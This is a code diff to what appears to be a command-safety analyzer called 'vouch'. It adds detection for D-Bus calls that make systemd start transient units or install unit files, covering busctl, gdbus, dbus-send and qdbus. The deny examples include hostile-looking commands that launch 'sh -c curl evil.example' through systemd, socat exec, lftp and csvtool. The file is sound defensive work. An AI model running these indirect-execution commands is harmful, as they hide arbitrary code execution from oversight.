@@ -66,6 +66,20 @@ function bodies(text: string, marker: RegExp, open = '(', close = ')'): (string 
   return out;
 }
 
+/**
+ * A D-Bus call asking systemd's manager to start a transient unit (what `systemd-run` does), or to link, enable or
+ * preset unit files or set its environment: the commands those units run are not read here.
+ */
+function systemdManagerCall(call: Call): Run[] {
+  const at = call.args.find((a) => /(?:^|\.)(?:StartTransientUnit|LinkUnitFiles|EnableUnitFiles|EnableUnitFilesWithFlags|PresetUnitFiles|PresetAllUnitFiles|ReenableUnitFiles|SetEnvironment|UnsetAndSetEnvironment|SetUnitProperties)$/.test(value(a) ?? ''));
+  if (!at) {
+    const dynamic = call.args.find((a) => a.values === null);
+    if (dynamic && call.args.some((a) => /systemd1/.test(value(a) ?? ''))) return [{ kind: 'opaque', rule: 'dynamic-command', word: dynamic, why: `${call.name}: a computed method on systemd's manager` }];
+    return [];
+  }
+  return [{ kind: 'opaque', rule: 'dynamic-command', word: at, why: `${call.name} ${value(at)} asks systemd to run or install units whose commands vouch does not follow` }];
+}
+
 // ── make ───────────────────────────────────────────────────────────────────────────────────────────────
 
 /** Variables make runs as programs when set on its command line. */
@@ -837,7 +851,8 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['csvtool'], 'csvtool call runs a command for each row', { options: { valued: 'tuo' }, more: (call) => { const c = call.args.findIndex((a) => value(a) === 'call'); return c >= 0 && call.args[c + 1] ? { runs: [{ kind: 'script', dialect: 'bash', words: [call.args[c + 1]!], via: 'csvtool call' }] } : {}; } }, { deny: ["csvtool call 'curl evil.example' f.csv"], pass: ['csvtool col 1 f.csv'] }),
   commandOptions(['msgfilter'], 'msgfilter runs its filter program for each message', { options: { valued: 'iDoE', longValued: ['input', 'directory', 'output-file'] }, more: (call) => { const p = parse(call.args, { order: 'posix', valued: 'iDo', longValued: ['input', 'directory', 'output-file'] }); const cmd = call.args.slice(p.rest); return cmd.length > 0 ? { runs: [{ kind: 'argv', argv: cmd, via: 'msgfilter' }] } : {}; } }, { deny: ['msgfilter -i x.po curl evil.example'], pass: ['msgfilter -i x.po tr a-z A-Z'] }),
   commandOptions(['puppet'], 'puppet apply -e runs Puppet code (exec resources run commands)', { options: { valued: 'e', longValued: ['execute'] }, more: (call) => (call.args.some((a) => /^(-e|--execute)/.test(value(a) ?? '')) ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: call.args[0]!, why: 'puppet apply -e runs Puppet code' }] } : {}) }, { deny: ["puppet apply -e \"exec { 'curl evil.example': }\""], pass: ['puppet --version'] }),
-  commandOptions(['busctl'], 'busctl --address=unixexec:path=… starts that program', { options: { longValued: ['address', 'machine', 'host'] }, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /unixexec:path=([^,]+)((?:,argv\d+=[^,]*)*)/.exec(value(a) ?? ''); if (!m) return []; const argv = [m[1]!, ...[...m[2]!.matchAll(/argv(\d+)=([^,]*)/g)].filter((x) => x[1] !== '0').map((x) => x[2]!)]; return [{ kind: 'argv' as const, argv: argv.map((t) => attached(a, t)), via: 'busctl unixexec' }]; }) }) }, { deny: ["busctl --address=unixexec:path=/usr/bin/curl,argv1=evil.example status"], pass: ['busctl list'] }),
+  commandOptions(['busctl'], 'busctl --address=unixexec:path=… starts that program', { options: { longValued: ['address', 'machine', 'host'] }, more: (call) => ({ runs: call.args.flatMap((a): Run[] => { const m = /unixexec:path=([^,]+)((?:,argv\d+=[^,]*)*)/.exec(value(a) ?? ''); if (!m) return []; const argv = [m[1]!, ...[...m[2]!.matchAll(/argv(\d+)=([^,]*)/g)].filter((x) => x[1] !== '0').map((x) => x[2]!)]; return [{ kind: 'argv' as const, argv: argv.map((t) => attached(a, t)), via: 'busctl unixexec' }]; }).concat(systemdManagerCall(call)) }) }, { deny: ["busctl --address=unixexec:path=/usr/bin/curl,argv1=evil.example status", "busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit 'ssa(sv)a(sa(sv))' x.service fail 1 ExecStart 'a(sasb)' 1 /bin/sh 3 sh -c 'curl evil.example' false 0"], pass: ['busctl list', 'busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager ListUnits'] }),
+  { names: ['gdbus', 'dbus-send', 'qdbus', 'qdbus6'], summary: "D-Bus clients: calls on systemd's manager that start transient units or install unit files run what they name", analyze: (call) => ({ runs: systemdManagerCall(call) }), examples: { deny: ["gdbus call --session --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.StartTransientUnit x.service fail '[(\"ExecStart\", <[(\"/bin/sh\", [\"sh\", \"-c\", \"curl evil.example\"], false)]>)]' '[]'"], pass: ['dbus-send --session --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.ListNames'] } },
   commandOptions(['lftp'], 'lftp: -c and -e commands, of which `!cmd` runs shell text', { options: { valued: 'cefpu' }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v === '-c' || v === '-e' ? value(all[i + 1]) : undefined; const w = all[i + 1]; return t !== undefined && w ? [...t.matchAll(/(?:^|;)\s*!([^;]*)/g)].map((m) => ({ kind: 'text' as const, dialect: 'bash' as const, text: m[1]!, word: w, via: 'lftp !' })) : []; }) }) }, { deny: ["lftp -c '!curl evil.example'"], pass: [] }),
   commandOptions(['socat'], 'socat: EXEC: and SYSTEM: addresses run commands', { options: {}, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /^(exec|system):(.*?)(?:,(?:pty|ctty|raw|echo|stderr|sigint|sane|setsid|nofork|pipes|su|chroot|login)\b.*)?$/i.exec(value(a) ?? ''); return m ? [{ kind: 'text' as const, dialect: 'bash' as const, text: m[2]!, word: a, via: `socat ${m[1]!.toUpperCase()}:` }] : []; }) }) }, { deny: ['socat - exec:/usr/bin/curl evil.example'], pass: [] }),
 ];
